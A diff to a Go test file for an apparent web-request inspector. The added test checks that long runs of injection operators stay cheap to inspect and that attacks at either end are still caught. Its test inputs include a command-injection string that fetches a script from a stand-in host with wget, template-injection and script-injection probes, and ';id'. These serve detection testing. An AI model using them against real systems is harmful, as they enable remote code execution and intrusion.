@@ -5,6 +5,7 @@ import (
 	"net/url"
 	"regexp"
 	"slices"
+	"strings"
 	"testing"
 
 	"gumshoe/ingest"
@@ -205,6 +206,38 @@ func TestValuesInBase64(t *testing.T) {
 		if r := Inspect([]byte("/?q=" + value)); Hostile(&r) {
 			t.Errorf("%q: class %q, stage %d, want no probe", value, r.Class, r.Stage)
 		}
+	}
+}
+
+// A target that is nothing but operators costs no more than one with a few, and what
+// somebody means to do between them is found at either end.
+func TestManyOperators(t *testing.T) {
+	for _, operator := range []string{"`", ";", "|", "$(", "${", "{{", "<", "%26", "#{", "@(", "%0a"} {
+		junk := strings.Repeat(operator, 1500/len(operator))
+		text, err := url.QueryUnescape(junk)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var in inspector
+		in.begin()
+		for range 3 {
+			if n := operatorsIn(in.sparing([]byte(text))); n > mostOperators {
+				t.Errorf("%q: %d operators are tried, want %d at most", operator, n, mostOperators)
+			}
+		}
+		for _, value := range []string{"1;wget+http://x.example/a.sh|" + junk, junk + ";wget+http://x.example/a.sh", "{{7*7}}" + junk, junk + "{{7*7}}", "<script>alert(1)</script>" + junk} {
+			if r := Inspect([]byte("/list?page=1&q=" + value)); !Hostile(&r) || r.Class&(ingest.ClassRCE|ingest.ClassSSTI|ingest.ClassXSS) == 0 {
+				t.Errorf("%.40q...%.30q: class %q, stage %d, want a probe", value, value[len(value)-30:], r.Class, r.Stage)
+			}
+		}
+	}
+	var in inspector
+	in.begin()
+	for range manyOperators {
+		in.sparing([]byte("a;b|c&d`e"))
+	}
+	if rest := in.sparing([]byte(";id")); operatorsIn(rest) > 0 {
+		t.Errorf("%q is tried after %d operators", rest, manyOperators)
 	}
 }
 
